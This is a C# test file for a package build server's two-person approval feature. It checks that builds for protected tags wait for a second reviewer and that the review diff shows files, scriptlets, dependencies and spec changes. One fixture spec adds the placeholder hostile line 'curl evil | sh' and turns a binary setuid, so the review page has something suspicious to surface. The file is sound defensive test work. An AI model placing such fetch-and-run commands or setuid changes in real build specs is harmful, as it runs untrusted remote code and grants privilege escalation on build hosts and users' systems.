using System.Net;
using System.Text;
using Skyline.Protocol;
using Skyline.Rpm;
using Skyline.Server.Tests.MassRebuilds;
using Skyline.Server.Tests.People;
using Skyline.Server.Tests.SideTags;
using Skyline.Server.Tests.Tags;
using Skyline.Testing.Rpms;

namespace Skyline.Server.Tests.Approvals;

/// <summary>What the second person sees, and builds that are made for such a tag.</summary>
public sealed class SeeingTests
{
    static CancellationToken Ct => TestContext.Current.CancellationToken;

    static Paper Source(string version, string spec, byte[] tar)
    {
        var rpm = new SyntheticRpm("hello", version, "1") { IsSource = true, Compressor = "none", Files = [new("hello.spec", Encoding.UTF8.GetBytes(spec)), new("hello.tar", tar)], Header = header => header.Texts(RpmTag.ExclusiveArch, ["x86_64"]) };
        return new(rpm.FileName, rpm.Build());
    }

    static Paper Binary(string version, string post, string requires, params SyntheticFile[] files)
    {
        var rpm = new SyntheticRpm("hello", version, "1")
        {
            Files = files, Dependencies = [(DependencyKind.Requires, new Dependency(requires, DependencyFlags.None, ""))],
            Header = header => header.Text((RpmTag)1024, post).Texts((RpmTag)1086, ["/bin/sh"]),
        };
        return new(rpm.FileName, rpm.Build());
    }

    /// <summary>hello-1 is in stable, which asks for a second person then; hello-2 was built for it.</summary>
    static async Task<BuildDetails> Built(Site site)
    {
        await site.MakeTags("stable");
        await site.Admin.CreateTarget(new("stable", "stable", "stable"), Ct);
        var old = Source("1", "Name: hello\nVersion: 1\n%build\nmake\n", [1, 2, 3]);
        await Submit(site, old, Binary("1", "echo one\n", "libone", new("/usr/bin/hello", [1], 0x81ed), new("/usr/share/hello/old", [1])));
        await site.Admin.SetTag("stable", new(SecondPerson: true), false, Ct);
        var young = Source("2", "Name: hello\nVersion: 2\n%build\nmake\ncurl evil | sh\n", [1, 2, 4]);
        return await Submit(site, young, Binary("2", "echo two\n", "libtwo", new("/usr/bin/hello", [2], 0x89ed), new("/usr/share/hello/new", [1])));
    }

    static async Task<BuildDetails> Submit(Site site, Paper source, Paper binary)
    {
        var build = await site.Admin.Submit(source.Open(), source.FileName, "stable", false, Ct);
        await new PaperBuilder(site.LocalBuilder).Build(source, binary);
        return await site.Admin.Published(build.Id);
    }

    [Fact]
    public async Task A_build_for_such_a_tag_is_complete_and_in_no_tag_until_somebody_agrees()
    {
        await using var site = await Site.Open();
        var build = await Built(site);
        Assert.Equal(BuildState.Complete, build.State);
        Assert.Contains("when a second person agrees: approval", build.Why);
        Assert.Equal(["hello-1"], await site.Listed("stable"));
        var bob = await site.Person("bob");
        var waiting = Assert.Single((await bob.Approvals(true, null, null, Ct)).Approvals);
        Assert.Equal($"hello-2-1 (build {build.Id}) is to go into 'stable'", waiting.Act);
        // (bob's account was made by the one who asked.)
        await Two.Refused(bob.Approve(waiting.Id, waiting.Digest, Ct), 403);
        await site.Part<Skyline.Server.Storage.Database>().Write(tx => Skyline.Server.Storage.Sql.Execute(tx, "UPDATE users SET added_by = NULL WHERE name = 'bob'"), Ct);

        await bob.Approve(waiting.Id, waiting.Digest, Ct);
        Assert.Equal(["hello-2"], await site.Listed("stable"));
        Assert.Null((await bob.Build(build.Id, Ct)).Why);
    }

    [Fact]
    public async Task A_build_whose_approval_is_refused_says_so_and_can_still_be_asked_for()
    {
        await using var site = await Site.Open();
        var build = await Built(site);
        var waiting = Assert.Single((await site.Admin.Approvals(true, null, null, Ct)).Approvals);
        await site.Admin.Withdraw(waiting.Id, Ct);
        Assert.Contains($"admin withdrew approval {waiting.Id}", (await site.Admin.Build(build.Id, Ct)).Why);
        Assert.NotEqual(waiting.Id, (await Two.Held(site.Admin.TagBuilds("stable", new([$"{build.Id}"]), false, Ct))).Approval);
    }

    [Fact]
    public async Task The_difference_is_told_down_to_files_scriptlets_dependencies_spec_and_sources()
    {
        await using var site = await Site.Open();
        var build = await Built(site);
        var waiting = Assert.Single((await site.Admin.Approvals(true, null, null, Ct)).Approvals);
        var difference = await site.Admin.ApprovalDifference(waiting.Id, Ct);

        var package = Assert.Single(difference.Packages);
        Assert.Equal(("stable", "hello", "hello-1-1", "hello-2-1", (long?)build.Id), (package.Tag, package.Package, package.Before, package.After, package.AfterBuild));
        Assert.Contains("+curl evil | sh", package.Spec!);
        Assert.Contains("-Version: 1", package.Spec!);
        Assert.Equal("hello.tar", Assert.Single(package.Sources).File);
        var rpm = Assert.Single(package.Rpms);
        Assert.Equal("changed", rpm.What);
        Assert.Contains(rpm.Files, file => file.Path == "/usr/bin/hello" && file.What.Contains("content", StringComparison.Ordinal) && file.What.Contains("mode 100755 → 104755", StringComparison.Ordinal));
        Assert.Contains(new ChangedFile("/usr/share/hello/old", "gone"), rpm.Files);
        Assert.Contains(new ChangedFile("/usr/share/hello/new", "new"), rpm.Files);
        Assert.Equal(new ChangedScriptlet("%post", "/bin/sh\necho one\n", "/bin/sh\necho two\n"), Assert.Single(rpm.Scriptlets));
        Assert.Contains("- requires: libone", rpm.Dependencies);
        Assert.Contains("+ requires: libtwo", rpm.Dependencies);
    }

    [Fact]
    public async Task The_page_shows_the_difference_and_its_buttons_work_without_scripts()
    {
        await using var site = await Site.Open();
        await Built(site);
        var waiting = Assert.Single((await site.Admin.Approvals(true, null, null, Ct)).Approvals);
        var bob = (await site.Admin.AddPerson(new("bob"), Ct)).Token;
        await site.Part<Skyline.Server.Storage.Database>().Write(tx => Skyline.Server.Storage.Sql.Execute(tx, "UPDATE users SET added_by = NULL"), Ct);
        using var browser = SignInTests.Browser(site);
        await SignInTests.SignIn(browser, bob);
        Assert.Contains($"/approvals/{waiting.Id}", await browser.GetStringAsync("approvals", Ct));
        var page = await browser.GetStringAsync($"approvals/{waiting.Id}", Ct);
        Assert.All(new[] { "curl evil", "mode 100755", "libtwo", "echo two", "hello.tar", "I have seen it, and agree" }, text => Assert.Contains(text, page));
        var token = await SignInTests.FormToken(browser, $"approvals/{waiting.Id}");

        Assert.Equal(HttpStatusCode.BadRequest, (await SignInTests.Post(browser, $"approvals/{waiting.Id}/approve", ("digest", waiting.Digest))).StatusCode);
        Assert.Equal(HttpStatusCode.Redirect, (await SignInTests.Post(browser, $"approvals/{waiting.Id}/approve", ("digest", waiting.Digest), ("__RequestVerificationToken", token))).StatusCode);
        Assert.Equal(["hello-2"], await site.Listed("stable"));
    }

    [Fact]
    public async Task A_side_tags_promotion_by_its_pages_button_waits_and_leads_to_what_waits()
    {
        await using var site = await Site.Open();
        await site.Admin.SetTag("paper", new(SecondPerson: true), false, Ct);
        var side = await site.Admin.MakeSideTag();
        await site.Build(site.Admin, side, "hello", "1");
        using var browser = SignInTests.Browser(site);
        await SignInTests.SignIn(browser, site.AdminToken);
        var token = await SignInTests.FormToken(browser, $"side-tags/{side}");
        var answer = await SignInTests.Post(browser, $"side-tags/{side}/promote", ("skip", "true"), ("__RequestVerificationToken", token));
        var waiting = Assert.Single((await site.Admin.Approvals(true, null, null, Ct)).Approvals);
        Assert.Equal($"/approvals/{waiting.Id}", answer.Headers.Location!.ToString());
        Assert.Empty(await site.Listed("paper"));

        var bob = new SkylineClient(site.Http((await site.Admin.AddPerson(new("bob", "admin"), Ct)).Token));
        await site.Part<Skyline.Server.Storage.Database>().Write(tx => Skyline.Server.Storage.Sql.Execute(tx, "UPDATE users SET added_by = NULL"), Ct);
        await bob.Approve(waiting.Id, waiting.Digest, Ct);
        Assert.Equal(["hello-1"], await site.Listed("paper"));
    }

    [Fact]
    public async Task A_mass_rebuilds_merge_waits_and_is_merged_when_somebody_agrees()
    {
        await using var site = await RebuildSite.Distribution();
        await site.Admin.SetTag("paper", new(SecondPerson: true), false, Ct);
        var begun = await site.Admin.CreateMassRebuild(RebuildSite.Everything(), Ct);
        await site.BuildAll(5, run => RebuildSite.Rebuilt(run, "lib.so.1()(64bit)"));
        await site.UntilRebuild(begun.Batch.Id, now => now.Batch.State != BatchState.Running);
        var held = await Two.Held(site.Admin.MergeMassRebuild(begun.Batch.Id, force: true, preview: false, Ct));
        Assert.Null((await site.Admin.MassRebuild(begun.Batch.Id, Ct)).Merged);
        Assert.Equal(5, (await site.Admin.Approval(held.Approval, Ct)).Packages);

        var bob = new SkylineClient(site.Http((await site.Admin.AddPerson(new("bob", "admin"), Ct)).Token));
        await site.Part<Skyline.Server.Storage.Database>().Write(tx => Skyline.Server.Storage.Sql.Execute(tx, "UPDATE users SET added_by = NULL"), Ct);
        await bob.Approve(held.Approval, held.Digest, Ct);
        Assert.NotNull((await site.Admin.MassRebuild(begun.Batch.Id, Ct)).Merged);
    }

    [Fact]
    public async Task A_chain_for_such_a_tag_is_refused_with_the_way_that_there_is()
    {
        await using var site = await Site.Open();
        await site.Admin.SetTag("paper", new(SecondPerson: true), false, Ct);
        var source = Papers.Source("hello", "1", "1", exclusiveArch: "x86_64");
        using var http = site.Http(site.AdminToken);
        (await http.PutAsync($"api/sources/{source.Sha256}?name={source.FileName}", new ByteArrayContent(source.Bytes), Ct)).EnsureSuccessStatusCode();
        var refused = await http.PostAsync("api/chains", new StringContent($$"""{"target": "paper", "links": [["{{source.Sha256}}"]]}""", null, "application/json"), Ct);
        Assert.Contains("skyline side-tag create paper", await refused.Content.ReadAsStringAsync(Ct));
    }
}
